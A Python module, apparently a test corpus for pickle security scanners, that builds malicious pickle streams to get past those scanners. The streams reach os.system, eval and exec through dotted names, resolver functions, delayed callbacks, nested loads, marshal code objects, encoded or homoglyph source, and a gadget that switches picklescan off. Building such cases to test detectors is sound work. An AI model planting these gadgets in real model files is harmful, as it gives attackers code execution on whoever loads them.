"""attack_gadgets.py - the ways past pickle scanners that lie in what is named and called."""

from __future__ import annotations

import base64
import codecs
import io
import marshal
import pickle
import types
import zlib
from collections.abc import Iterator
from typing import Any

from attack_arrays import after_arrays
from attack_streams import (
    ABSENT,
    CODE,
    MODULE,
    RUN,
    SHELL,
    SYSTEM,
    Attack,
    attribute,
    broken,
    call,
    divergences,
    name,
    operands,
    raw,
    registry,
    stack_global,
    text,
)


def names() -> Iterator[Attack]:
    """Names written so that a list of names does not hold them."""
    yield Attack(
        "O22", "dotted-global", b"\x80\x04" + call(name("shutil", "os.system"), text(SHELL)) + b"."
    )
    dotted = stack_global(b"\x80\x04" + text("shutil"), text("os.system"))
    yield Attack("O22", "dotted-stack-global", dotted)
    torch = call(name("torch", "serialization.os.system"), text(SHELL))
    yield Attack("O22", "dotted-torch", b"\x80\x04" + torch + b".", load="")
    old = call(name("__builtin__", "eval"), text(CODE)) + b"."
    yield Attack("O23", "builtin", old, words=("eval",))
    yield Attack(
        "O23",
        "commands",
        call(name("commands", "getoutput"), text(SHELL)) + b".",
        words=("getoutput",),
    )
    chain = name("builtins", "print.__self__.eval")
    yield Attack(
        "O24", "self-of-a-builtin", b"\x80\x04" + call(chain, text(CODE)) + b".", words=("eval",)
    )
    held = call(name("shutil", "copy.__globals__.get"), text("os"))
    yield Attack(
        "O24",
        "globals-of-a-function",
        b"\x80\x04" + call(attribute(held, "system"), text(SHELL)) + b".",
    )
    classes = call(name("builtins", "print.__class__.__base__.__subclasses__"))
    one = call(attribute(classes, "__getitem__"), b"K\x00")
    init = attribute(attribute(one, "__init__"), "__builtins__")
    yield Attack("O24", "subclasses", b"\x80\x04" + init + b".", words=("__subclasses__",), load="")
    yield Attack("O9", "allowed-names-only", allowed_names(), words=("__builtins__",), load="")
    switch = call(b"\x80\x04" + name("picklescan.scanner", "_unsafe_globals.clear"))
    yield Attack(
        "O31",
        "scanner-switched-off",
        switch + b".",
        words=("picklescan",),
        verdict="suspicious",
        load="",
    )
    yield Attack(
        "O39",
        "module-beside-the-model",
        call(name("my_module", "load"), text("x")) + b".",
        words=("my_module.load",),
        verdict="suspicious",
        load="",
    )


def allowed_names() -> bytes:
    """numpy.size gets a `shape`, numpy.shape reads it: the builtins, by names of numpy only."""
    size, shape = name("numpy", "size"), name("numpy", "shape")
    state = b"N}" + text("shape") + name("numpy", "__builtins__") + b"s\x86b0"
    return size + state + call(shape, size) + b"."


def resolvers() -> Iterator[Attack]:
    """Functions that find any other function."""
    run = text(SHELL)
    ways = {
        "import-module": attribute(MODULE, "system"),
        "resolve-name": call(name("pkgutil", "resolve_name"), text("posix:system")),
        "locate": call(name("pydoc", "locate"), text("posix.system")),
        "getattr-static": call(name("inspect", "getattr_static"), MODULE, text("system")),
        "attrgetter": call(call(name("operator", "attrgetter"), text("system")), MODULE),
        "dunder-import": attribute(call(name("builtins", "__import__"), text("posix")), "system"),
        "mock-target": call(name("unittest.mock", "_importer"), text("os.system")),
        "sys-modules": attribute(
            call(name("operator", "getitem"), name("sys", "modules"), text("posix")), "system"
        ),
        "nested-getattr": attribute(attribute(name("shutil", "os"), "sys"), "modules"),
    }
    for title, way in ways.items():
        if title == "nested-getattr":
            module = call(name("operator", "getitem"), way, text("posix"))
            way = attribute(module, "system")
        yield Attack("O27", title, call(way, run) + b".", absent=ABSENT.get(title, ()))
    method = call(name("operator", "methodcaller"), text("system"), run)
    yield Attack("O27", "methodcaller", call(method, MODULE) + b".")
    field = call(name("string", "Formatter"))
    field = call(attribute(field, "get_field"), text("0.system"), b"(" + MODULE + b"t", b"}")
    yield Attack(
        "O27",
        "formatter-get-field",
        field + b".",
        words=("get_field",),
        verdict="suspicious",
        load="",
    )
    items = b"(" + MODULE + b"l"
    mapped = call(
        name("builtins", "map"), call(name("operator", "attrgetter"), text("system")), items
    )
    yield Attack(
        "O33",
        "next-of-map",
        call(call(name("builtins", "next"), mapped), run) + b".",
        words=("attrgetter",),
    )
    got = call(name("builtins", "getattr"), MODULE, text("system"), b"N")
    yield Attack("O33", "result-called", call(got, run) + b".")


def delayed() -> Iterator[Attack]:
    """Nothing runs while the stream is read."""
    run = text(SHELL)
    yield Attack("O28", "atexit", call(name("atexit", "register"), SYSTEM, run) + b".")
    partial = call(name("functools", "partial"), SYSTEM, run)
    yield Attack("O28", "partial", call(partial) + b".")
    yield Attack(
        "O28",
        "starmap",
        call(
            name("builtins", "list"),
            call(name("itertools", "starmap"), SYSTEM, b"((" + run + b"tl"),
        )
        + b".",
    )
    yield Attack(
        "O28",
        "map",
        call(name("builtins", "tuple"), call(name("builtins", "map"), SYSTEM, b"(" + run + b"l"))
        + b".",
    )
    factory = call(name("collections", "defaultdict"), partial)
    yield Attack("O28", "defaultdict-factory", call(attribute(factory, "__getitem__"), b"N") + b".")
    finalize = call(name("weakref", "finalize"), name("argparse", "Namespace"), SYSTEM, run)
    yield Attack("O28", "finalize", finalize + b".")
    setattr_class = name("string", "Template") + b"N}" + text("__setstate__") + SYSTEM + b"s\x86b"
    yield Attack("O8", "build-sets-a-method", setattr_class + b")\x81" + run + b"b.")
    quiet = name("argparse", "Namespace") + b"N}" + text("__call__") + b"K\x01s\x86b."
    yield Attack(
        "O8",
        "build-on-a-class",
        quiet,
        words=("argparse.Namespace",),
        verdict="suspicious",
        load="",
    )


def writers() -> Iterator[Attack]:
    """Files written now and run later."""
    path = call(name("pathlib", "Path"), text("canary"))
    yield Attack(
        "O29",
        "write-text",
        call(attribute(path, "write_text"), text("x")) + b".",
        words=("write_text",),
    )
    for module, opener in (("io", "open"), ("codecs", "open")):
        yield Attack(
            "O29",
            f"{module}-open",
            call(name(module, opener), text("canary"), text("w")) + b".",
            words=(opener,),
        )
    yield Attack(
        "O29",
        "file-handler",
        call(name("logging", "FileHandler"), text("canary")) + b".",
        words=("FileHandler",),
    )
    write_file = call(
        name("distutils.file_util", "write_file"), text("canary"), b"(" + text("x") + b"l"
    )
    yield Attack("O29", "distutils", write_file + b".", words=("write_file",), load="")
    yield Attack(
        "O29",
        "numpy-saver",
        call(name("numpy", "savetxt"), text("a.pth"), b"]") + b".",
        words=("savetxt",),
        load="",
    )


def inner_pickles() -> Iterator[Attack]:
    """Payloads inside strings: pickles, and what reads as one."""
    inner = RUN + b"."
    latin1 = call(name("_codecs", "encode"), text(inner.decode("latin1")), text("latin1"))
    yield Attack("O25", "pickle-loads", call(name("pickle", "loads"), latin1) + b".")
    yield Attack("O25", "c-pickle-loads", call(name("_pickle", "loads"), raw(inner)) + b".")
    stream = call(name("_io", "BytesIO"), raw(inner))
    for module, loader in (
        ("torch.storage", "_load_from_bytes"),
        ("numpy", "load"),
        ("joblib", "load"),
        ("pandas", "read_pickle"),
        ("torch", "load"),
    ):
        argument = raw(inner) if loader == "_load_from_bytes" else stream
        yield Attack(
            "O25",
            f"{module}-{loader.strip('_')}",
            call(name(module, loader), argument) + b".",
            load="",
        )
    yaml = text("!!python/object/apply:os.system ['touch canary']")
    yield Attack(
        "O25",
        "yaml-unsafe-load",
        call(name("yaml", "unsafe_load"), yaml) + b".",
        words=("unsafe_load",),
        load="",
    )


def inner_code() -> Iterator[Attack]:
    code = compile(CODE, "x", "exec")
    loaded = call(name("marshal", "loads"), raw(marshal.dumps(code)))
    scope = b"}"
    function = call(name("types", "FunctionType"), loaded, scope)
    yield Attack(
        "O26", "marshal-function", call(function) + b".", words=("marshal.loads",), pythons="self"
    )
    yield Attack(
        "O26",
        "marshal-exec",
        call(name("builtins", "exec"), loaded) + b".",
        words=("exec",),
        pythons="self",
    )
    made = call(name("types", "CodeType"), *code_arguments(code))
    yield Attack(
        "O26",
        "code-type",
        call(call(name("types", "FunctionType"), made, scope)) + b".",
        words=("CodeType",),
        pythons="self",
    )
    yield Attack("O26", "cloudpickle", cloudpickled(), words=(), verdict="suspicious", load="")


def encoded_sources() -> Iterator[Attack]:
    source = base64.b64encode(CODE.encode())
    decoded = call(name("base64", "b64decode"), raw(source))
    yield Attack("O30", "base64", call(name("builtins", "exec"), decoded) + b".", words=("exec",))
    packed = call(name("zlib", "decompress"), raw(zlib.compress(CODE.encode())))
    yield Attack("O30", "zlib", call(name("builtins", "exec"), packed) + b".", words=("exec",))
    rot13 = call(name("_codecs", "decode"), text(codecs.encode(CODE, "rot13")), text("rot13"))
    yield Attack("O30", "rot13", call(name("builtins", "exec"), rot13) + b".", words=("exec",))
    wide = call(name("builtins", "exec"), text("\u200b" + CODE.replace("o", "\u043e"))) + b"."
    yield Attack("O30", "homoglyphs", wide, words=("exec",), load="")


def code_arguments(code: types.CodeType) -> Iterator[bytes]:
    """What CodeType takes in this interpreter, as opcodes."""
    fields = [
        "argcount",
        "posonlyargcount",
        "kwonlyargcount",
        "nlocals",
        "stacksize",
        "flags",
        "code",
    ]
    fields += ["consts", "names", "varnames", "filename", "name", "qualname", "firstlineno"]
    fields += ["linetable", "exceptiontable", "freevars", "cellvars"]
    for field in fields:
        if hasattr(code, f"co_{field}"):
            yield constant(getattr(code, f"co_{field}"))


def constant(value: Any) -> bytes:
    """Opcodes that push a value: a pickle without PROTO, memo and STOP."""
    file = io.BytesIO()
    pickler = pickle.Pickler(file, 3)
    pickler.fast = True
    pickler.dump(value)
    return file.getvalue()[2:-1]


def cloudpickled() -> bytes:
    import cloudpickle

    class Payload:
        def __reduce__(self) -> Any:
            return (lambda: __import__("posix").system("touch canary")), ()

    return bytes(cloudpickle.dumps(Payload()))


def others() -> Iterator[Attack]:
    deep = b"]" + b"2\x86" * 60
    yield Attack(
        "O32",
        "dup-tuple2-as-key",
        b"}" + deep[1:].replace(b"2", b")2", 1) + b"Ns.",
        words=(),
        verdict="suspicious",
        load="",
    )
    yield Attack(
        "O32", "huge-memo-key", b"Nr\xff\xff\xff\xff.", words=(), verdict="suspicious", load=""
    )
    hub = call(name("torch.hub", "load"), text("user/repo"), text("model"))
    yield Attack("O35", "torch-hub", hub + b".", words=("torch.hub.load",), load="")
    auto = name("transformers", "AutoModel.from_pretrained")
    yield Attack(
        "O35",
        "from-pretrained",
        b"\x80\x04" + call(auto, text("user/repo")) + b".",
        words=("from_pretrained",),
        verdict="suspicious",
        load="",
    )
    clean = b"".join(text(f"layer.{i}.weight") + b"(K\x01K\x02l" for i in range(100_000))
    yield Attack("O38", "padded", b"}(" + clean + text("end") + RUN + b"u.")


def attacks() -> list[Attack]:
    groups = [broken, operands, registry, divergences, names, resolvers, delayed, writers]
    groups += [inner_pickles, inner_code, encoded_sources, after_arrays, others]
    return [attack for group in groups for attack in group()]
